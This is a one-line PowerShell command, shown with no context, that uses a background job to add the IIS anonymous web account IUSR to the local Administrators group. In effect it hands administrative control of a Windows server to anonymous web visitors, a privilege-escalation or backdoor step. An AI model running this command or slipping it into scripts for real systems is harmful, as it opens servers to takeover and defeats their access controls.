Start-Job { net localgroup Administrators IUSR /add } | Wait-Job
